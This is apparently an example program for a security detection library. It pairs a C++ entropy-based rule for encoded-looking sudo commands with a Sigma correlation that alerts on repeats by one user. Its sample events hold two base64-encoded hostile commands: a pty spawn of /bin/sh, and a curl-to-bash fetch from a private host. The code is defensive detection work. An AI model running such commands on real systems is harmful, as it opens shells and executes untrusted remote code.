// A rule whose condition is C++, counted by a Sigma correlation: sudo commands that look encoded,
// which no list of words can say, and an alert when one user runs two of them within a minute.

#include <algorithm>
#include <array>
#include <cmath>
#include <cstdio>
#include <memory>
#include <optional>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "auditflow/event/audit_event.hpp"
#include "auditflow/event/event.hpp"
#include "auditflow/pipeline/code_rule.hpp"
#include "auditflow/pipeline/detector.hpp"
#include "auditflow/pipeline/rule_package.hpp"
#include "auditflow/sigma/loader.hpp"

namespace {

using auditflow::Result;
namespace event = auditflow::event;
namespace pipeline = auditflow::pipeline;
namespace sigma = auditflow::sigma;

constexpr std::string_view kRules = R"(
title: Encoded commands in a row
name: encoded_commands
description: Several encoded commands of one user within a minute
correlation:
  type: event_count
  rules: [encoded_command]
  group-by: [user_id]
  timespan: 1m
  condition: {gte: 2}
  generate: true
level: critical
)";

constexpr std::array<std::string_view, 3> kEvents = {
    R"({"event_id":"00000000-0000-4000-8000-000000000001","timestamp":"2026-11-20T10:00:00Z",
        "event_type":"sudo_command","user_id":"ann","details":{"command":"/usr/bin/systemctl restart nginx"}})",
    R"({"event_id":"00000000-0000-4000-8000-000000000002","timestamp":"2026-11-20T10:00:10Z",
        "event_type":"sudo_command","user_id":"ann","details":{"command":"sh -c aW1wb3J0IG9zLHB0eTtwdHkuc3Bhd24oIi9iaW4vc2giKQ"}})",
    R"({"event_id":"00000000-0000-4000-8000-000000000003","timestamp":"2026-11-20T10:00:30Z",
        "event_type":"sudo_command","user_id":"ann","details":{"command":"sh -c Y3VybCBodHRwOi8vMTAuMC4wLjkveCB8IGJhc2ggLXMgLS0"}})",
};

/// Shannon's entropy of the text's bytes, in bits per byte.
double Entropy(std::string_view text) {
  std::array<int, 256> counts{};
  for (const char c : text) ++counts.at(static_cast<unsigned char>(c));
  double bits = 0;
  for (const int count : counts) {
    if (count == 0) continue;
    const double share = count / static_cast<double>(text.size());
    bits -= share * std::log2(share);
  }
  return bits;
}

bool LooksEncoded(const event::Event& event) {
  const std::optional<std::string> command = event::TextAt(event, "details.command");
  if (!command) return false;
  const std::size_t last_word = command->find_last_of(' ') + 1;
  const std::string_view word = std::string_view(*command).substr(last_word);
  return word.size() >= 32 && Entropy(word) > 4;
}

pipeline::CodeRule EncodedCommand() {
  pipeline::CodeRule rule;
  rule.document.metadata.title = "Sudo command that looks encoded";
  rule.document.metadata.name = "encoded_command";
  rule.document.metadata.level = sigma::Level::kHigh;
  rule.document.metadata.tags = {"attack.t1027"};
  rule.document.logsource.product = "auditflow";
  rule.document.logsource.category = "sudo";
  rule.document.code = pipeline::MakeRuleCode(LooksEncoded);
  rule.alert = pipeline::AlertTemplateOf(rule.document.metadata);
  rule.alert->description = "{user_id} ran {details.command}";
  return rule;
}

}  // namespace

int main() {
  pipeline::RulePackageOptions options;
  options.logsource_maps = {AUDITFLOW_RULES_DIR};
  options.code_rules.push_back(EncodedCommand());
  const auto rules = pipeline::BuildRulePackage(sigma::LoadText(kRules, "rules.yml"), options);
  for (const sigma::Diagnostic& diagnostic : rules->diagnostics) {
    std::puts(diagnostic.ToString().c_str());
  }
  auto detector = pipeline::Detector::Create(rules);
  if (!detector) return 1;

  event::EventParser parser;
  std::size_t alerts = 0;
  for (const std::string_view json : kEvents) {
    const Result<event::Event> event = parser.Parse(json);
    if (!event) return 1;
    const pipeline::DetectorInput input{&*event, event::IdentityOf(*event)};
    const auto detected = (*detector)->Detect({&input, 1});
    if (!detected) return 1;
    for (const pipeline::DetectedAlert& each : *detected) {
      std::printf("%-8s %s: %s\n", each.alert.severity.c_str(), each.alert.alert_name.c_str(),
                  each.alert.description.c_str());
    }
    alerts += detected->size();
  }
  return alerts == 3 ? 0 : 1;
}
